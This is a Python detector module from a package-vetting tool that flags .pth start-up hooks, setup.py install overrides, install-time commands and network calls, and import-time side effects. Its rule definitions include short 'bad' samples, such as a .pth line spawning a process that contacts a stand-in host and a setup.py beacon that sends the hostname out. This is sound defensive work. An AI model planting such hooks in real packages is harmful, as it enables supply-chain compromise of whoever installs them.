"""Code that runs without anyone calling it: ``.pth`` lines, ``setup.py``, import time."""

from __future__ import annotations

import ast
import re
from typing import ClassVar

from depvet.analysis.capabilities import DNS_LOOKUPS
from depvet.analysis.decode import EXEC_NAMES, PROCESS_NAMES
from depvet.analysis.detector import Cap, Detector, Mark, PyContext, short
from depvet.analysis.files import FileKind, pth_line_runs
from depvet.analysis.pyfacts import ScopeKind
from depvet.analysis.pyfacts import dotted as pyfacts_dotted
from depvet.analysis.staticeval import DECODER_NAMES
from depvet.model import Category, RunContext, Severity
from depvet.rules import Example, Rule

PTH_EXECUTES = Rule(
    id="DV101",
    name="pth-executes-code",
    title=".pth file runs code at every Python start-up",
    severity=Severity.CRITICAL,
    category=Category.STARTUP,
    description=(
        "Python's site module executes every line of a `.pth` file in site-packages that starts "
        "with `import`, at every interpreter start, before any user code. A line that goes on to "
        "execute or decode code, start a process, open files or reach the network is a start-up "
        "hook nobody asked for: the LiteLLM 1.82.8 release used exactly this to steal credentials "
        "from every Python process on the machine."
    ),
    bad=Example(
        path="evil_init.pth",
        code=(
            "import os, subprocess, sys; subprocess.Popen([sys.executable, '-c', "
            "'import urllib.request; urllib.request.urlopen(\"https://example.invalid/x\")'])\n"
        ),
    ),
    good=Example(path="mypkg.pth", code="/opt/plugins/lib\n./vendor\n"),
    false_positives="Known start-up hooks (setuptools' distutils-precedence.pth, editable-install "
    "finders, namespace-package .pth files, virtualenv) are recognised and ignored.",
    references=("https://docs.python.org/3/library/site.html", "https://peps.python.org/pep-0829/"),
)
PTH_IMPORTS = Rule(
    id="DV102",
    name="pth-imports-module",
    title=".pth file imports a module at every Python start-up",
    severity=Severity.MEDIUM,
    category=Category.STARTUP,
    description=(
        "An `import` line in a `.pth` file runs the named module at every interpreter start. "
        "Coverage tools and plugin systems do this on purpose, but it is also how a package hides "
        "code that must run even when it is never imported; the imported module's own findings "
        "are reported separately."
    ),
    bad=Example(path="startup_hook.pth", code="import startup_hook_impl\n"),
    good=Example(
        path="distutils-precedence.pth",
        code=(
            "import os; var = 'SETUPTOOLS_USE_DISTUTILS'; enabled = os.environ.get(var, 'local') == 'local'; "
            "enabled and __import__('_distutils_hack').add_shim(); \n"
        ),
    ),
)
SETUP_COMMAND_OVERRIDE = Rule(
    id="DV103",
    name="setup-command-override",
    title="setup.py replaces an install command with its own code",
    severity=Severity.MEDIUM,
    category=Category.STARTUP,
    description=(
        "`cmdclass` overrides of install, develop, egg_info, build_py, sdist and similar commands "
        "run arbitrary code when the package is installed or built. Most install-time malware "
        "hides its payload in such an override's `run` method."
    ),
    bad=Example(
        path="setup.py",
        code=(
            "from setuptools import setup\nfrom setuptools.command.install import install\n\n"
            "class PostInstall(install):\n    def run(self):\n        install.run(self)\n"
            "        beacon()\n\nsetup(name='x', cmdclass={'install': PostInstall})\n"
        ),
    ),
    good=Example(
        path="setup.py",
        code=(
            "from setuptools import setup\nfrom setuptools.command.install import install\n\n"
            "class Install(install):\n    def run(self):\n        super().run()\n\n"
            "setup(name='x', cmdclass={'install': Install})\n"
        ),
    ),
    false_positives="Build customisations that generate files; the rule is medium on its own and "
    "matters through what the override does.",
)
SETUP_RUNS_COMMAND = Rule(
    id="DV104",
    name="setup-runs-command",
    title="setup.py runs a command at install time",
    severity=Severity.HIGH,
    category=Category.STARTUP,
    description=(
        "`setup.py` starts a process (`os.system`, `subprocess`, `os.popen`...) whose command is not "
        "a build tool. This runs with the installing user's rights during `pip install` of an sdist, "
        "before anyone imports the package. Compilers, git, cmake and the running Python are "
        "recognised as build steps."
    ),
    bad=Example(
        path="setup.py",
        code=(
            "import os\nfrom setuptools import setup\nos.system('nohup ./updater >/dev/null 2>&1 &')\n"
            "setup(name='x')\n"
        ),
    ),
    good=Example(
        path="setup.py",
        code=(
            "import subprocess\nfrom setuptools import setup\n"
            "rev = subprocess.check_output(['git', 'rev-parse', 'HEAD']).decode()\nsetup(name='x')\n"
        ),
    ),
    false_positives="Builds that drive unusual tools from setup.py.",
)
SETUP_NETWORK = Rule(
    id="DV105",
    name="setup-network-access",
    title="setup.py reaches the network at install time",
    severity=Severity.HIGH,
    category=Category.STARTUP,
    description=(
        "`setup.py` opens a connection or makes an HTTP request while it runs. Installing from an "
        "index never needs this: dependencies are declared, not fetched by the build script. "
        "Droppers fetch their second stage this way, and beacons report the installing host."
    ),
    bad=Example(
        path="setup.py",
        code=(
            "import urllib.request\nfrom setuptools import setup\n"
            "host = __import__('socket').gethostname()\n"
            "urllib.request.urlopen('https://example.invalid/ping?host=' + host)\n"
            "setup(name='x')\n"
        ),
    ),
    good=Example(
        path="setup.py",
        code=("from setuptools import setup\nsetup(name='x', url='https://example.org/project')\n"),
    ),
)
SETUP_RUNS_COMPUTED = Rule(
    id="DV107",
    name="setup-runs-computed-command",
    title="setup.py runs a command built at run time",
    severity=Severity.MEDIUM,
    category=Category.STARTUP,
    description=(
        "`setup.py` starts a process whose command depvet cannot read statically (built from "
        "variables, configuration or the environment). Build scripts do this to drive compilers; "
        "droppers do it to hide what they run. On its own it is a note; what the command is made "
        "of is judged by the execution and obfuscation rules."
    ),
    bad=Example(
        path="setup.py",
        code=(
            "import subprocess, sys\nfrom setuptools import setup\n"
            "subprocess.call(sys.argv[1:] + [open('cmd.txt').read()])\nsetup(name='x')\n"
        ),
    ),
    good=Example(
        path="setup.py",
        code=(
            "import subprocess\nfrom setuptools import setup\n"
            "subprocess.check_call(['make', '-C', 'src'])\nsetup(name='x')\n"
        ),
    ),
)
IMPORT_SIDE_EFFECT = Rule(
    id="DV106",
    name="import-time-side-effect",
    title="Package runs a process or reaches the network when imported",
    severity=Severity.HIGH,
    category=Category.STARTUP,
    description=(
        "Module-level code of a package module (its top-level `__init__.py` above all) starts a "
        "process or talks to the network as soon as the package is imported. Libraries do this "
        "almost never; import-time payloads (Telnyx 4.87.1, ultralytics 8.3.41) do it always."
    ),
    bad=Example(
        path="fastjsonx/__init__.py",
        code=("import subprocess\nsubprocess.Popen(['sh', '-c', 'sleep 1; id > /tmp/.x'])\n"),
    ),
    good=Example(
        path="fastjsonx/__init__.py",
        code=("import subprocess\n\ndef run(cmd):\n    return subprocess.run(cmd, check=True)\n"),
    ),
)

# Start-up hooks that ship with common tools; matched per line.
_KNOWN_PTH = (
    re.compile(r"^import _virtualenv\s*$"),
    re.compile(r"__import__\('_distutils_hack'\)\.(add_shim|do_override)\(\)"),
    re.compile(
        r"^import (__editable__[\w.]+_finder|_[\w]+_editable_finder|_editable_impl_\w+); "
        r"\1\.install\("
    ),
    re.compile(r"^import sys, types, os;.*sys\._getframe\(1\)\.f_locals\['sitedir'\]"),
    re.compile(r"^import sys, types, os;has_mfs"),
    re.compile(r"^import _?[\w.]*(coverage|pytest_cov)[\w.]*; ?[\w.]*process_startup\(\)\s*$"),
    re.compile(r"^import \w+;\s*\w+\.install\(\)\s*$"),
    re.compile(r"^import pywin32_bootstrap\s*$"),
)
_INSTALL_COMMANDS = frozenset(
    {
        "install",
        "develop",
        "egg_info",
        "build_py",
        "sdist",
        "bdist_egg",
        "bdist_wheel",
        "easy_install",
        "install_lib",
        "install_scripts",
        "build",
        "bdist",
        "install_data",
        "editable_wheel",
    }
)
_HARMLESS_IN_OVERRIDE = re.compile(
    r"(^|\.)(run|run_command|do_egg_install|announce|print|warn|info|"
    r"debug|error|getattr|super|execute|__init__|initialize_options|"
    r"finalize_options|ensure_finalized|get_outputs|mkpath)$"
)
# Programs a build legitimately runs from setup.py.
_BUILD_PROGRAMS = frozenset(
    {
        "git",
        "hg",
        "svn",
        "cmake",
        "make",
        "gmake",
        "ninja",
        "meson",
        "gcc",
        "g++",
        "cc",
        "c++",
        "clang",
        "clang++",
        "cl",
        "link",
        "nvcc",
        "pkg-config",
        "cython",
        "swig",
        "rustc",
        "cargo",
        "go",
        "xcrun",
        "uname",
        "which",
        "ldconfig",
        "sw_vers",
        "lsb_release",
        "autoreconf",
        "autoconf",
        "./configure",
        "configure",
        "patch",
        "tar",
        "npm",
        "yarn",
        "node",
        "javac",
        "mvn",
        "gfortran",
        "ar",
        "strip",
        "install_name_tool",
        "otool",
        "patchelf",
        "brew",
        "protoc",
        "flex",
        "bison",
        "llvm-config",
        "python",
        "python3",
        "sys.executable",
        "pip",
        "nproc",
        "getconf",
        "sysctl",
        "hipcc",
        "icc",
        "touch",
        "shell-script",
    }
)
_SHELLS = frozenset({"sh", "bash", "dash", "zsh"})

# Inspection tools a library may ask at import time; a subset of the build programs, without
# interpreters, package managers and archivers, which payloads start.
_IMPORT_TIME_PROGRAMS = frozenset(
    {
        "git",
        "hg",
        "svn",
        "gcc",
        "cc",
        "clang",
        "g++",
        "c++",
        "gfortran",
        "nvcc",
        "uname",
        "which",
        "ldconfig",
        "sw_vers",
        "lsb_release",
        "pkg-config",
        "llvm-config",
        "getconf",
        "sysctl",
        "nproc",
        "xcrun",
    }
)


class StartupDetector(Detector):
    rules: ClassVar[tuple[Rule, ...]] = (
        PTH_EXECUTES,
        PTH_IMPORTS,
        SETUP_COMMAND_OVERRIDE,
        SETUP_RUNS_COMMAND,
        SETUP_NETWORK,
        IMPORT_SIDE_EFFECT,
        SETUP_RUNS_COMPUTED,
    )
    # setup.py and .pth code are always parsed; the rest relies on capability marks.

    def on_module(self, ctx: PyContext) -> None:
        if ctx.file.kind is FileKind.PTH and ctx.file.layer == 0:
            self._pth(ctx)
            return
        if ctx.file.setup_script and ctx.file.layer == 0:
            self._command_overrides(ctx)
        for mark in ctx.marks_of(Cap.PROCESS, Cap.NETWORK_FETCH, Cap.NETWORK_SEND):
            if mark.context is RunContext.INSTALL:
                self._install_time(ctx, mark)
            elif mark.context is RunContext.IMPORT and _import_time_worthy(ctx, mark):
                ctx.report(IMPORT_SIDE_EFFECT, mark.local_line, _evidence(ctx, mark), mark.context)

    # -- .pth ------------------------------------------------------------------------------

    def _pth(self, ctx: PyContext) -> None:
        dangerous_lines = {
            c.line
            for c in ctx.facts.calls
            if (c.name in EXEC_NAMES and not _execs_tame_literal(c.node))
            or c.name in PROCESS_NAMES
            or c.name in DECODER_NAMES
        }
        dangerous_lines |= {m.local_line for m in ctx.module_marks if m.cap is not Cap.SYSINFO}
        for number, line in enumerate(ctx.text.split("\n"), start=1):
            if not pth_line_runs(line):
                continue
            if any(pattern.search(line) for pattern in _KNOWN_PTH):
                continue
            rule = PTH_EXECUTES if number in dangerous_lines else PTH_IMPORTS
            ctx.report(rule, number, line.strip())

    # -- setup.py --------------------------------------------------------------------------

    def _command_overrides(self, ctx: PyContext) -> None:
        for scope in ctx.facts.scopes:
            if scope.kind is not ScopeKind.CLASS:
                continue
            commands = [b.rsplit(".", 1)[-1] for b in scope.bases]
            if not any(c in _INSTALL_COMMANDS for c in commands):
                continue
            extra = [
                c
                for c in ctx.facts.calls
                if _inside(c.scope, scope) and not _harmless_call(c.name or c.attr or "")
            ]
            if extra:
                names = ", ".join(sorted({c.name or c.attr or "?" for c in extra})[:4])
                ctx.report(
                    SETUP_COMMAND_OVERRIDE,
                    scope.line,
                    f"class {scope.name}({', '.join(commands)}) also calls {names}",
                    RunContext.INSTALL,
                )

    def _install_time(self, ctx: PyContext, mark: Mark) -> None:
        if mark.cap is Cap.PROCESS:
            program = _program(ctx, mark)
            if program is None:
                ctx.report(SETUP_RUNS_COMPUTED, mark.local_line, _evidence(ctx, mark), mark.context)
            elif program not in _BUILD_PROGRAMS:
                ctx.report(SETUP_RUNS_COMMAND, mark.local_line, _evidence(ctx, mark), mark.context)
        else:
            ctx.report(SETUP_NETWORK, mark.local_line, _evidence(ctx, mark), mark.context)


def _execs_tame_literal(call: ast.Call) -> bool:
    """``exec('...')`` of literal code that only imports, reads variables and calls into modules.

    coverage's ``.pth`` execs a literal that checks ``COVERAGE_PROCESS_START`` and calls
    ``coverage.process_startup()``. Literal code that starts processes, opens files, reaches
    the network, decodes or execs again is not tame; the literal is also scanned on its own as
    a decoded layer, so its behaviour is reported there as well.
    """
    if len(call.args) != 1 or not isinstance(call.args[0], ast.Constant):
        return False
    code = call.args[0].value
    if not isinstance(code, str) or "://" in code:
        return False
    try:
        tree = ast.parse(code)
    except (SyntaxError, ValueError, RecursionError, MemoryError):
        return False
    aliases: dict[str, str] = {}
    for node in ast.walk(tree):
        if isinstance(node, ast.Import):
            aliases.update(
                {
                    a.asname or a.name.split(".")[0]: a.name if a.asname else a.name.split(".")[0]
                    for a in node.names
                }
            )
        elif isinstance(node, ast.ImportFrom):
            aliases.update({a.asname or a.name: f"{node.module or ''}.{a.name}" for a in node.names})
    for node in ast.walk(tree):
        if not isinstance(node, ast.Call):
            continue
        dotted = pyfacts_dotted(node.func)
        if "?" in dotted:  # a call on a call or a subscript: not a plain module function
            return False
        head, _, rest = dotted.partition(".")
        name = f"{aliases.get(head, head)}.{rest}" if rest else aliases.get(head, head)
        last = name.rsplit(".", 1)[-1]
        if (
            name in EXEC_NAMES
            or name in PROCESS_NAMES
            or name in DECODER_NAMES
            or f"builtins.{name}" in EXEC_NAMES
            or last in _UNTAME_CALLS
            or name.startswith(_UNTAME_MODULES)
        ):
            return False
    return True


_UNTAME_CALLS = frozenset(
    {"open", "exec", "eval", "compile", "__import__", "system", "popen", "Popen", "run", "call", "urlopen"}
)
_UNTAME_MODULES = ("subprocess", "socket", "urllib", "requests", "http", "shutil", "ctypes", "base64", "zlib")


def _import_time_worthy(ctx: PyContext, mark: Mark) -> bool:
    """Import-time work that libraries do for themselves is left out.

    A version module asking ``git describe``, a build helper asking ``gcc -print-multiarch`` and
    a DNS lookup (which has its own exfiltration rule) are what benign imports run; anything
    else, or a program that cannot be read statically, is reported.
    """
    if mark.detail in DNS_LOOKUPS:
        return False
    if mark.cap is Cap.PROCESS:
        return _program(ctx, mark) not in _IMPORT_TIME_PROGRAMS
    return True


def _inside(scope: object, cls: object) -> bool:
    current = scope
    while current is not None:
        if current is cls:
            return True
        current = getattr(current, "parent", None)
    return False


def _harmless_call(name: str) -> bool:
    last = name.rsplit(".", 1)[-1]
    return bool(_HARMLESS_IN_OVERRIDE.search(name)) or last.endswith(("Error", "Exception", "Warning"))


def _program(ctx: PyContext, mark: Mark) -> str | None:
    """The program a process call runs, when it can be read statically."""
    if not mark.payload:
        return None
    first = mark.payload[0]
    if isinstance(first, ast.List | ast.Tuple) and first.elts:
        head = first.elts[0]
        if isinstance(head, ast.Attribute) and ast.unparse(head) == "sys.executable":
            return "sys.executable"
        value = ctx.evaluate(head)
        if not isinstance(value, str):
            return None
        program = _basename(value)
        if program in _SHELLS and len(first.elts) > 1:
            # ``sh autogen.sh`` runs a script of the source tree; ``sh -c CODE`` runs CODE.
            script = ctx.evaluate(first.elts[1])
            if isinstance(script, str) and script.endswith(".sh") and not script.startswith("-"):
                return "shell-script"
        return program
    value = ctx.evaluate(first)
    if isinstance(value, str) and value.strip():
        return _basename(value.split()[0])
    if isinstance(value, list) and value and isinstance(value[0], str):
        return _basename(value[0])
    return None


def _basename(program: str) -> str:
    if program.startswith("./"):
        return program
    name = program.replace("\\", "/").rsplit("/", 1)[-1]
    return name[:-4] if name.lower().endswith(".exe") else name


def _evidence(ctx: PyContext, mark: Mark) -> str:
    text = ctx.line_text(mark.local_line).strip()
    if mark.node is not None and (ctx.file.layer or len(text) > 160):
        return short(mark.node)
    return text or mark.detail
